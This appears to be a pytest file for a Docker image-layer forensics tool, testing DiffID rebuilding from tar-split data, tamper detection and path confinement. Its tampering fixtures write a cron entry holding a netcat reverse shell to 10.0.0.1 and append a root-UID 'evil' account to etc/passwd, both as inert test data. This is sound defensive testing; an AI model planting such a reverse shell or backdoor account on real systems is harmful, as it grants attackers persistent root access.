"""Deep verification: DiffIDs rebuilt from tar-split on the reference examples and the real
samples, tampering reported by file and layer, and confinement to the layer directory."""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import os
import re
import shutil
import stat
import subprocess
import tarfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from conftest import LAYOUT_EXAMPLES
from deeptree import remove_tree, write_at

from forensics.evidence import Evidence
from forensics.formats import ustar
from forensics.formats.crc64 import crc64_iso
from forensics.formats.tarsplit import SEGMENT, iter_entries
from forensics.layers import LayerJob, LayerReport, content_dir, layer_jobs, verify_layer
from forensics.stores.host import read_host

MODERN = "modern_28.x_overlay2"
LEGACY = "legacy_1.9.1_aufs"
BASE_CHAIN = "85a9aa0b50367c436af24d88c410f963fb63e0665f55b40f2e981d5f9f339cf1"
SECOND_CHAIN = "d6372967f65de8ab397a1f9f46a8cd3bd3f187174ad6b96acf29c0f123b62cf0"
BASE_DIFF = "sha256:85a9aa0b50367c436af24d88c410f963fb63e0665f55b40f2e981d5f9f339cf1"
SECOND_DIFF = "sha256:547eb78f5e8b6f334cfad30704a87509494c45cb7e707002aaf6fe23ffb80d4f"
EMPTY_DIFF = "sha256:" + hashlib.sha256(bytes(1024)).hexdigest()
G_BASE = "7b989fd5e6b5c65742647ab6d0e0bbe31d9929eb6625a3d02f242f5c65ee3e0e"
G_SECOND = "0d547a92a596a539744f6ed8ac7f14e1c0bdcee554b03b3ea0fffeddc7c5629a"
G_EMPTY = "517b4472cd16065f63aa7377036abcefd93ffc5e115bf75c3592ad21c141cd85"

#: layout_examples/README.md: tar-split file, file root, DiffID, tar bytes, file bytes, files read
EXPECTED = [
    (
        MODERN,
        f"image/overlay2/layerdb/sha256/{BASE_CHAIN}/tar-split.json.gz",
        "overlay2",
        "overlay2/49955e06336c66558798bf2e47d7b11d8b8c11fe4af7a66a3efe295737b6d7e5/diff",
        BASE_DIFF,
        10240,
        115,
        3,
    ),
    (
        MODERN,
        f"image/overlay2/layerdb/sha256/{SECOND_CHAIN}/tar-split.json.gz",
        "overlay2",
        "overlay2/957f3eedf3ace84b6412875eebff3e3c36267641149b7d34b79de257e504c14a/diff",
        SECOND_DIFF,
        10240,
        86,
        2,
    ),
    (
        LEGACY,
        f"graph/{G_BASE}/tar-data.json.gz",
        "aufs",
        f"aufs/diff/{G_BASE}",
        BASE_DIFF,
        10240,
        115,
        3,
    ),
    (
        LEGACY,
        f"graph/{G_SECOND}/tar-data.json.gz",
        "aufs",
        f"aufs/diff/{G_SECOND}",
        SECOND_DIFF,
        10240,
        86,
        2,
    ),
    (
        LEGACY,
        f"graph/{G_EMPTY}/tar-data.json.gz",
        "aufs",
        f"aufs/diff/{G_EMPTY}",
        EMPTY_DIFF,
        1024,
        0,
        0,
    ),
]

_SPECIAL = re.compile(r"^(\S+)\s+->\s+(.*)$")


# -- the reference examples, made real ------------------------------------------------------------


def realize(tree: Path) -> None:
    """Turn an example tree's stand-ins into what a real host has (SPECIAL_FILES.txt): symlinks,
    0:0 character devices, hard links; drop the empty-directory markers. The example files do
    not keep modes either: each layer's own tar headers (read with Python's tarfile) give them."""
    for line in (tree / "SPECIAL_FILES.txt").read_text().splitlines():
        found = _SPECIAL.match(line)
        if not found or line.startswith("#"):
            continue
        rel, what = found.groups()
        path = tree / rel
        if rel.endswith(".keep-empty-dir"):
            path.unlink()
        elif what.startswith("symlink"):
            target = re.search(r"'([^']*)'", what)
            assert target is not None
            path.unlink()
            os.symlink(target.group(1), path)
        elif "character device 0:0" in what:
            path.unlink()
            os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(0, 0))
        elif what.startswith("hardlink to "):
            path.unlink()
            os.link(tree / what.split()[2], path)
    for marker in tree.rglob(".keep-empty-dir"):
        marker.unlink()


def apply_modes(tree: Path, tar_split: str, content: str) -> None:
    stream = rebuilt_with_zeros(tree / tar_split)
    with tarfile.open(fileobj=io.BytesIO(stream)) as tar:
        for m in tar.getmembers():
            path = tree / content / m.name
            if m.issym() or m.name.rpartition("/")[2].startswith(".wh.") or m.islnk():
                continue
            if path.exists():
                os.chmod(path, m.mode)


def rebuilt_with_zeros(tar_split: Path) -> bytes:
    out = bytearray()
    for e in iter_entries(io.BytesIO(tar_split.read_bytes())):
        out += (e.payload or b"") if e.type == SEGMENT else bytes(e.size)
    return bytes(out)


@pytest.fixture(scope="module")
def examples(tmp_path_factory: pytest.TempPathFactory) -> Path:
    if os.geteuid() != 0:
        pytest.skip("whiteouts are character devices: mknod needs root")
    dest = tmp_path_factory.mktemp("examples")
    for scenario in (MODERN, LEGACY):
        shutil.copytree(LAYOUT_EXAMPLES / scenario, dest / scenario, symlinks=True)
        subprocess.run(["chmod", "-R", "u+w", str(dest / scenario)], check=True)
        realize(dest / scenario)
    for scenario, tar_split, _, content, *_ in EXPECTED:
        apply_modes(dest / scenario, tar_split, content)
    return dest


@pytest.mark.parametrize(
    ("scenario", "tar_split", "driver", "content", "diff_id", "tar_bytes", "file_bytes", "read"),
    EXPECTED,
    ids=["modern-base", "modern-second", "legacy-base", "legacy-second", "legacy-empty"],
)
def test_reference_examples_rebuild_to_their_diff_ids(
    examples: Path,
    scenario: str,
    tar_split: str,
    driver: str,
    content: str,
    diff_id: str,
    tar_bytes: int,
    file_bytes: int,
    read: int,
) -> None:
    job = LayerJob(str(examples / scenario), "layer", driver, tar_split, content, diff_id)
    report = verify_layer(job)
    assert report.diff_id == diff_id
    assert (report.tar_bytes, report.file_bytes, report.files_read) == (tar_bytes, file_bytes, read)
    assert report.bytes_read == file_bytes
    assert report.complete and report.diff_id_matches
    assert report.ok, [*report.problems, *report.bad_files()]
    assert list(report.issues()) == []


def test_reference_example_records(examples: Path) -> None:
    scenario, tar_split, driver, content, diff_id, *_ = EXPECTED[0]
    report = verify_layer(
        LayerJob(str(examples / scenario), "base", driver, tar_split, content, diff_id)
    )
    by_path = {f.path: f for f in report.files}
    assert set(by_path) == {
        "bin",
        "bin/hello",
        "bin/sh",
        "etc",
        "etc/motd",
        "etc/os-release",
        "tmp",
    }
    hello = by_path["bin/hello"]
    assert (hello.type, hello.size, hello.mode, hello.crc64) == (
        "file",
        43,
        0o755,
        "c2e11aa6b5ad2e92",
    )
    assert (by_path["bin/sh"].type, by_path["bin/sh"].linkname) == ("symlink", "hello")
    assert (by_path["tmp"].type, by_path["tmp"].mode) == ("dir", 0o1777)
    assert hello.disk_path == f"{content}/bin/hello"


def test_migrated_layerdb_copy_of_legacy_tar_data_is_identical() -> None:
    """The 1.10 migration copies tar-data.json.gz into the layerdb (tar-split.md §1)."""
    migrated = (
        LAYOUT_EXAMPLES / "legacy_1.9.1_aufs_after_1.10_migration_additions/image/aufs/layerdb"
    )
    legacy = LAYOUT_EXAMPLES / LEGACY / "graph"
    for chain, graph in ((BASE_CHAIN, G_BASE), (SECOND_CHAIN, G_SECOND)):
        a = rebuilt_with_zeros(migrated / "sha256" / chain / "tar-split.json.gz")
        assert a == rebuilt_with_zeros(legacy / graph / "tar-data.json.gz")


# -- the real daemon's samples --------------------------------------------------------------------


def test_every_sample_layer_rebuilds_to_its_recorded_diff_id(
    driver_sample: tuple[Path, dict[str, Any]],
) -> None:
    root, truth = driver_sample
    host = read_host(Evidence(root))
    jobs = layer_jobs(host)
    assert len(jobs) == len(host.layers) >= 4
    reports = [verify_layer(job) for job in jobs]
    for report in reports:
        assert report.diff_id == report.recorded_diff_id, report.problems
        assert report.ok, [*report.problems, *report.bad_files()]
        assert report.bytes_read == report.file_bytes
    computed = {r.diff_id for r in reports}
    for image in truth["inspect_images"]:
        assert set(image["RootFS"]["Layers"]) <= computed


def test_sample_vfs_and_overlay_read_only_what_the_tar_split_names(
    driver_sample: tuple[Path, dict[str, Any]],
) -> None:
    """vfs and overlay v1 keep the full rootfs per layer: no file outside the tar is 'extra'."""
    root, truth = driver_sample
    host = read_host(Evidence(root))
    for report in map(verify_layer, layer_jobs(host)):
        assert report.counts()["extra"] == 0
        tar_names = {f.path for f in report.files}
        if truth["driver"] != "overlay2":
            assert report.files_read <= len(tar_names)


# -- tampering on the overlay2 sample -------------------------------------------------------------


def base_layer(root: Path) -> tuple[LayerJob, Path]:
    host = read_host(Evidence(root))
    (job,) = [j for j in layer_jobs(host) if host.layers[j.layer_id].parent is None]
    return job, root / job.content_dir


def issues_of(report: LayerReport) -> list[tuple[str, str, str]]:
    return [(i.check, i.path, i.message) for i in report.issues()]


def test_one_byte_changed_is_reported_by_file_and_layer(sample_root: Path) -> None:
    job, content = base_layer(sample_root)
    passwd = content / "etc/passwd"
    data = bytearray(passwd.read_bytes())
    data[len(data) // 2] ^= 0x01
    passwd.write_bytes(bytes(data))
    report = verify_layer(job)
    (bad,) = report.bad_files()
    assert (bad.path, bad.status, bad.size, bad.found_size) == (
        "etc/passwd",
        "modified",
        len(data),
        None,
    )
    assert bad.found_crc64 == f"{crc64_iso(bytes(data)):016x}" != bad.crc64
    checks = issues_of(report)
    assert ("layer.file-modified", f"{job.content_dir}/etc/passwd") in [c[:2] for c in checks]
    assert any(job.layer_id in c[2] for c in checks if c[0] == "layer.file-modified")
    (mismatch,) = [p for p in report.problems if p.kind == "diff-id-mismatch"]
    assert mismatch.path == job.tar_split and job.layer_id in mismatch.message


def test_a_deleted_file_is_missing(sample_root: Path) -> None:
    job, content = base_layer(sample_root)
    (content / "etc/group").unlink()
    report = verify_layer(job)
    (bad,) = report.bad_files()
    assert (bad.path, bad.status) == ("etc/group", "missing")
    assert report.diff_id != job.recorded_diff_id
    assert ("layer.file-missing", f"{job.content_dir}/etc/group") in [
        c[:2] for c in issues_of(report)
    ]


def test_an_added_file_is_extra(sample_root: Path) -> None:
    job, content = base_layer(sample_root)
    (content / "etc/cron.evil").write_text("* * * * * root nc -e /bin/sh 10.0.0.1 4444\n")
    (content / "bin/dropper").mkdir()
    report = verify_layer(job)
    assert report.diff_id == job.recorded_diff_id  # the tar is intact: only the dir has more
    assert {(f.path, f.status, f.type) for f in report.bad_files()} == {
        ("etc/cron.evil", "extra", "file"),
        ("bin/dropper", "extra", "dir"),
    }
    paths = [c[1] for c in issues_of(report) if c[0] == "layer.file-extra"]
    assert f"{job.content_dir}/etc/cron.evil" in paths


def test_a_resized_file_and_a_changed_mode(sample_root: Path) -> None:
    job, content = base_layer(sample_root)
    with open(content / "etc/passwd", "ab") as f:
        f.write(b"evil:x:0:0::/:/bin/sh\n")
    os.chmod(content / "etc/group", 0o4755)
    report = verify_layer(job)
    bad = {f.path: f for f in report.bad_files()}
    assert bad["etc/passwd"].status == "size-changed" and bad["etc/passwd"].found_size
    assert (bad["etc/group"].status, bad["etc/group"].found_mode) == ("mode-changed", 0o4755)


def test_a_symlink_retargeted_is_modified(sample_root: Path) -> None:
    job, content = base_layer(sample_root)
    links = [p for p in (content / "bin").iterdir() if p.is_symlink()]
    victim = links[0]
    victim.unlink()
    victim.symlink_to("/tmp/evil")
    report = verify_layer(job)
    (bad,) = report.bad_files()
    assert (bad.path, bad.status) == (f"bin/{victim.name}", "modified")
    assert "/tmp/evil" in bad.detail


def test_a_truncated_tar_split_is_reported(sample_root: Path) -> None:
    job, _ = base_layer(sample_root)
    path = sample_root / job.tar_split
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    report = verify_layer(job)
    assert not report.complete and report.diff_id is None
    (problem,) = report.problems
    assert (problem.kind, problem.damage, problem.path) == (
        "tar-split-damaged",
        "truncated",
        job.tar_split,
    )
    assert job.layer_id in problem.message
    assert 0 < report.entries and report.files
    assert report.counts()["extra"] == 0  # an incomplete list cannot tell what is extra


def test_a_missing_tar_split_and_a_missing_content_dir(sample_root: Path) -> None:
    job, content = base_layer(sample_root)
    shutil.rmtree(content)
    report = verify_layer(job)
    kinds = [p.kind for p in report.problems]
    assert "content-dir-missing" in kinds
    assert all(f.status == "missing" for f in report.files if f.size)
    assert [i.check for i in report.issues()].count("layer.file-missing") == 0
    (sample_root / job.tar_split).unlink()
    report = verify_layer(job)
    assert [p.kind for p in report.problems] == ["tar-split-missing"]


# -- confinement ---------------------------------------------------------------------------------

DECOY = b"DECOY-SECRET-never-in-the-stream\n"


def disassemble(tar_bytes: bytes) -> bytes:
    """A tar-split stream for ``tar_bytes`` in tar-split's segmentation (tar-split.md §2.1):
    header blocks (with the previous file's padding) as segments, file data as file entries."""
    lines: list[dict[str, Any]] = []

    def segment(data: bytes) -> None:
        if data:
            lines.append({"type": 2, "payload": base64.b64encode(data).decode()})

    pos = 0
    with tarfile.open(fileobj=io.BytesIO(tar_bytes), errors="surrogateescape") as tar:
        for m in tar.getmembers():
            segment(tar_bytes[pos : m.offset_data])
            member, _ = ustar.read_member(tar_bytes, m.offset)
            size = m.size if m.isreg() else 0
            data = tar_bytes[m.offset_data : m.offset_data + size]
            entry: dict[str, Any] = {"type": 1}
            try:
                entry["name"] = member.name.decode("utf-8")
            except UnicodeDecodeError:
                entry["name_raw"] = base64.b64encode(member.name).decode()
            if size:
                entry["size"] = size
            entry["payload"] = (
                base64.b64encode(crc64_iso(data).to_bytes(8, "big")).decode() if size else None
            )
            lines.append(entry)
            pos = m.offset_data + size
    segment(tar_bytes[pos:])
    for i, line in enumerate(lines):
        line["position"] = i
    text = "".join(json.dumps(line, separators=(",", ":")) + "\n" for line in lines)
    return gzip.compress(text.encode())


def make_tar(
    members: list[tuple[str | bytes, bytes | None, str]], fmt: int = tarfile.PAX_FORMAT
) -> bytes:
    """A tar of (name, data, kind) members; kind: file, dir, symlink:<target>, hardlink:<name>."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt, errors="surrogateescape") as tar:
        for name, data, kind in members:
            text = name.decode("utf-8", "surrogateescape") if isinstance(name, bytes) else name
            info = tarfile.TarInfo(text)
            info.mtime = 1_700_000_000
            if kind == "dir":
                info.type, info.mode = tarfile.DIRTYPE, 0o755
            elif kind.startswith("symlink:"):
                info.type, info.linkname = tarfile.SYMTYPE, kind[8:]
            elif kind.startswith("hardlink:"):
                info.type, info.linkname = tarfile.LNKTYPE, kind[9:]
            else:
                info.mode, info.size = 0o644, len(data or b"")
            tar.addfile(info, io.BytesIO(data) if data else None)
    return out.getvalue()


def make_layer(root: Path, tar_bytes: bytes, cache: str = "c0") -> LayerJob:
    """An overlay2-style layer under ``root``: its tar-split, and its files extracted."""
    meta = root / "image/overlay2/layerdb/sha256/x"
    meta.mkdir(parents=True, exist_ok=True)
    (meta / "tar-split.json.gz").write_bytes(disassemble(tar_bytes))
    diff = root / "overlay2" / cache / "diff"
    diff.mkdir(parents=True)
    with tarfile.open(fileobj=io.BytesIO(tar_bytes), errors="surrogateescape") as tar:
        tar.extractall(diff, filter="fully_trusted")
    diff_id = "sha256:" + hashlib.sha256(tar_bytes).hexdigest()
    rel = "image/overlay2/layerdb/sha256/x/tar-split.json.gz"
    content = content_dir("overlay2", cache)
    assert content is not None
    return LayerJob(str(root), "sha256:x", "overlay2", rel, content, diff_id)


def rewrite_names(job: LayerJob, rename: dict[bytes, bytes]) -> None:
    """Edit file-entry names in a tar-split (what a hostile or corrupt layer would carry)."""
    path = Path(job.root) / job.tar_split
    lines = gzip.decompress(path.read_bytes()).decode().splitlines()
    out = []
    for line in lines:
        obj = json.loads(line)
        if obj["type"] == 1 and obj.get("name", "").encode() in rename:
            obj["name"] = rename[obj["name"].encode()].decode()
        out.append(json.dumps(obj, separators=(",", ":")))
    path.write_bytes(gzip.compress(("\n".join(out) + "\n").encode()))


def stream_of(job: LayerJob) -> tuple[LayerReport, bytes]:
    out = io.BytesIO()
    report = verify_layer(job, sink=out.write)
    return report, out.getvalue()


@pytest.mark.parametrize("fmt", [tarfile.PAX_FORMAT, tarfile.GNU_FORMAT, tarfile.USTAR_FORMAT])
def test_rebuilt_stream_is_the_original_tar_byte_for_byte(tmp_path: Path, fmt: int) -> None:
    members: list[tuple[str | bytes, bytes | None, str]] = [
        ("etc", None, "dir"),
        ("etc/passwd", b"root:x:0:0::/root:/bin/sh\n", "file"),
        ("etc/empty", b"", "file"),
        ("etc/link", None, "symlink:passwd"),
        ("etc/hard", None, "hardlink:etc/passwd"),
        ("big", os.urandom(3 * 1024 * 1024 + 17), "file"),
    ]
    if fmt != tarfile.USTAR_FORMAT:
        members.append(("deep/" * 30 + "long-name.txt", b"long\n", "file"))
        members.insert(0, ("deep/" * 30, None, "dir"))
        members.append((b"caf\xe9-latin1.txt", b"x", "file"))
    tar_bytes = make_tar(members, fmt)
    job = make_layer(tmp_path, tar_bytes)
    report, stream = stream_of(job)
    assert stream == tar_bytes
    assert report.diff_id == job.recorded_diff_id
    assert report.ok, [*report.problems, *report.bad_files()]
    assert report.tar_bytes == len(tar_bytes)


def test_names_of_1500_components_are_read_without_recursion(tmp_path: Path) -> None:
    """Each component is opened in turn (3,001 bytes from the layer root: a path Linux
    holds); a name longer than PATH_MAX is named too deep and not looked up."""
    deep = "a/" * 1500
    members: list[tuple[str | bytes, bytes | None, str]] = [
        (deep + "f", b"F\n", "file"),
        (deep + "g", b"G\n", "file"),
        ("a/" * 1400 + "b/h", b"H\n", "file"),
        ("x", b"X\n", "file"),
    ]
    tar_bytes = make_tar(members)
    job = make_layer(tmp_path, make_tar([]))  # tarfile's extraction would recurse: by hand
    diff = Path(job.root) / job.content_dir
    for name, data, _ in members:
        assert isinstance(name, str) and data
        write_at(diff, name, data)
    (Path(job.root) / job.tar_split).write_bytes(disassemble(tar_bytes))
    job = replace(job, recorded_diff_id="sha256:" + hashlib.sha256(tar_bytes).hexdigest())
    try:
        report, _ = stream_of(job)
        assert report.diff_id == job.recorded_diff_id
        assert report.ok, [*report.problems, *report.bad_files()]
        assert report.files_read == 4
        too_long = b"y/" * 2100 + b"x"
        rewrite_names(job, {b"x": too_long})
        report, _ = stream_of(job)
    finally:
        remove_tree(diff / "a")
    by_status = {f.status: f for f in report.files}
    bad = by_status["too-deep"]
    assert "…" in bad.path and len(bad.path) < 200 and "PATH_MAX" in bad.detail
    assert f"{len(too_long) + 1:,} bytes in 2,101 components" in bad.detail
    assert by_status["extra"].path == "x"  # still on disk, now accounted for by no member
    assert {f.status for f in report.files} == {"ok", "too-deep", "extra"}


def test_a_name_climbing_out_is_refused_and_never_read(tmp_path: Path) -> None:
    job = make_layer(tmp_path, make_tar([("a", b"A\n", "file"), ("outside", DECOY, "file")]))
    os.unlink(Path(job.root) / job.content_dir / "outside")
    rewrite_names(job, {b"outside": b"../outside"})
    (Path(job.root) / "overlay2/c0/outside").write_bytes(DECOY)  # where Go's Join would look
    report, stream = stream_of(job)
    (bad,) = report.bad_files()
    assert (bad.path, bad.status) == ("../outside", "unsafe-path")
    assert DECOY not in stream
    assert report.files_read == 1
    assert ("layer.unsafe-path", job.content_dir) in [c[:2] for c in issues_of(report)]


def test_a_directory_symlinked_out_is_refused_and_never_read(tmp_path: Path) -> None:
    job = make_layer(tmp_path, make_tar([("etc", None, "dir"), ("etc/shadow", DECOY, "file")]))
    outside = tmp_path.parent / f"{tmp_path.name}-outside"
    outside.mkdir()
    (outside / "shadow").write_bytes(DECOY)
    etc = Path(job.root) / job.content_dir / "etc"
    shutil.rmtree(etc)
    etc.symlink_to(outside)
    report, stream = stream_of(job)
    by_path = {f.path: f for f in report.files}
    assert by_path["etc/shadow"].status == "unsafe-path"
    assert by_path["etc"].status == "type-changed"
    assert DECOY not in stream
    assert report.files_read == 0


def test_a_file_turned_symlink_or_fifo_is_not_followed(tmp_path: Path) -> None:
    job = make_layer(tmp_path, make_tar([("s", DECOY, "file"), ("f", b"data\n", "file")]))
    content = Path(job.root) / job.content_dir
    outside = tmp_path / "decoy"
    outside.write_bytes(DECOY)
    (content / "s").unlink()
    (content / "s").symlink_to(outside)
    (content / "f").unlink()
    os.mkfifo(content / "f")  # opening it would block: it must not be opened
    report, stream = stream_of(job)
    assert {(f.path, f.status) for f in report.bad_files()} == {
        ("s", "type-changed"),
        ("f", "type-changed"),
    }
    assert DECOY not in stream


def test_a_symlinked_content_dir_is_not_entered(tmp_path: Path) -> None:
    job = make_layer(tmp_path, make_tar([("a", DECOY, "file")]))
    real = tmp_path / "elsewhere"
    shutil.move(str(Path(job.root) / job.content_dir), real)
    (Path(job.root) / job.content_dir).symlink_to(real)
    report, stream = stream_of(job)
    assert [(p.kind, p.damage) for p in report.problems][0] == ("content-dir-missing", "symlink")
    assert DECOY not in stream


def test_header_damage_in_a_segment_is_reported(tmp_path: Path) -> None:
    job = make_layer(tmp_path, make_tar([("a", b"A\n", "file"), ("b", b"B\n", "file")]))
    path = Path(job.root) / job.tar_split
    lines = [json.loads(x) for x in gzip.decompress(path.read_bytes()).splitlines()]
    seg = bytearray(base64.b64decode(lines[2]["payload"]))  # padding of a + header of b
    seg[-512 + 10] ^= 0x40  # a byte of b's name: the header checksum no longer holds
    lines[2]["payload"] = base64.b64encode(bytes(seg)).decode()
    path.write_bytes(gzip.compress("".join(json.dumps(x) + "\n" for x in lines).encode()))
    report = verify_layer(job)
    by_path = {f.path: f for f in report.files}
    assert by_path["b"].status == "unreadable-header"
    assert "checksum" in by_path["b"].detail
    assert "tar-header-damaged" in [p.kind for p in report.problems]
    assert report.diff_id != job.recorded_diff_id


@pytest.mark.parametrize("payload", [None, ""])
def test_a_file_without_crc64_is_named_so(tmp_path: Path, payload: str | None) -> None:
    """tar-split's reassembly compares the crc64 of every file with data: none recorded fails
    there, so the file is reported (and the rest of the layer still checked)."""
    job = make_layer(tmp_path, make_tar([("a", b"A\n", "file"), ("b", b"B\n", "file")]))
    path = Path(job.root) / job.tar_split
    lines = [json.loads(x) for x in gzip.decompress(path.read_bytes()).splitlines()]
    (entry,) = [x for x in lines if x.get("name") == "a"]
    entry["payload"] = payload
    path.write_bytes(gzip.compress("".join(json.dumps(x) + "\n" for x in lines).encode()))
    by_path = {f.path: f for f in verify_layer(job).files}
    assert (by_path["a"].status, by_path["a"].crc64) == ("modified", None)
    assert by_path["a"].detail.endswith("the layer recorded none (Go's reassembly fails on that)")
    assert "None" not in by_path["a"].detail
    assert by_path["b"].status == "ok"


def test_an_entry_of_an_unknown_type_is_skipped_as_docker_skips_it(tmp_path: Path) -> None:
    job = make_layer(tmp_path, make_tar([("a", b"A\n", "file"), ("b", b"B\n", "file")]))
    path = Path(job.root) / job.tar_split
    lines = [json.loads(x) for x in gzip.decompress(path.read_bytes()).splitlines()]
    for n in (3, 1):  # bytes that would spoil the tar if they were not skipped
        lines.insert(n, {"type": 3 if n == 1 else 0, "payload": "QUJD"})
    for n, line in enumerate(lines):
        line["position"] = n
    path.write_bytes(gzip.compress("".join(json.dumps(x) + "\n" for x in lines).encode()))
    report = verify_layer(job)
    assert report.complete and report.diff_id == job.recorded_diff_id
    (problem,) = report.problems
    assert problem.kind == "unknown-entry" and "position 1 has type 3" in problem.message
    assert {f.path: f.status for f in report.files} == {"a": "ok", "b": "ok"}


def test_duplicates_and_position_gaps_are_problems(tmp_path: Path) -> None:
    job = make_layer(tmp_path, make_tar([("a", b"A\n", "file"), ("b", b"A\n", "file")]))
    rewrite_names(job, {b"b": b"./a"})
    report = verify_layer(job)
    assert "duplicate-path" in [p.kind for p in report.problems]
    path = Path(job.root) / job.tar_split
    lines = gzip.decompress(path.read_bytes()).decode().splitlines()
    path.write_bytes(gzip.compress(("\n".join(lines[:1] + lines[2:]) + "\n").encode()))
    report = verify_layer(job)
    assert "position-gap" in [p.kind for p in report.problems]


def test_jobs_are_picklable_and_reports_too(tmp_path: Path) -> None:
    import pickle

    job = make_layer(tmp_path, make_tar([("a", b"A\n", "file")]))
    report = verify_layer(pickle.loads(pickle.dumps(job)))
    again = pickle.loads(pickle.dumps(report))
    assert again.to_dict() == report.to_dict()
    assert json.dumps(report.to_dict())


def test_layer_jobs_of_the_example_roots(examples: Path) -> None:
    """From a read Host: the legacy graph's tar-data files and the modern layerdb."""
    for scenario, expected in (
        (LEGACY, {BASE_DIFF, SECOND_DIFF, EMPTY_DIFF}),
        (MODERN, {BASE_DIFF, SECOND_DIFF}),
    ):
        host = read_host(Evidence(examples / scenario))
        jobs = layer_jobs(host)
        reports = [verify_layer(job) for job in jobs]
        assert {r.diff_id for r in reports} == expected
        assert all(r.ok for r in reports)
        if scenario == LEGACY:  # no DiffID recorded before 1.10: computed, not compared
            assert {j.tar_split.rpartition("/")[2] for j in jobs} == {"tar-data.json.gz"}
            assert all(r.diff_id_matches is None for r in reports)
        else:
            assert all(r.diff_id_matches for r in reports)


def test_progress_counts_the_bytes_read(examples: Path) -> None:
    scenario, tar_split, driver, content, diff_id, _, file_bytes, read = EXPECTED[0]
    seen: list[int] = []
    job = LayerJob(str(examples / scenario), "base", driver, tar_split, content, diff_id)
    verify_layer(job, progress=seen.append, ev=Evidence(examples / scenario))
    assert (len(seen), sum(seen)) == (read, file_bytes)


def test_legacy_layer_without_tar_data_is_named_not_skipped_silently(
    corpus_roots: dict[str, Path], tmp_path: Path
) -> None:
    """A graph layer of Docker ≤ 1.7 has no tar-data.json.gz: it cannot be rebuilt, and
    verify --deep says so (one info finding at graph/) instead of leaving it out unsaid."""
    from forensics.deep import verify_deep
    from forensics.layers import Skipped, plan_layers

    root = tmp_path / "docker"
    shutil.copytree(corpus_roots["aufs.v1"], root, symlinks=True)
    host = read_host(Evidence(root))
    (base,) = [lid for lid, layer in host.layers.items() if layer.parent is None]
    (root / "graph" / base / "tar-data.json.gz").unlink()
    host = read_host(Evidence(root))
    jobs, skipped = plan_layers(host)
    assert skipped == [Skipped(base, "aufs", "no-tar-data")]
    assert base not in {job.layer_id for job in jobs} and len(jobs) == len(host.layers) - 1
    result = verify_deep(Evidence(root), host)
    (hit,) = [f for f in result.findings if f.check == "layer.not-deep-checked"]
    assert (hit.severity, hit.path) == ("info", "graph")
    assert hit.message.endswith("1 layer not deep-checked")
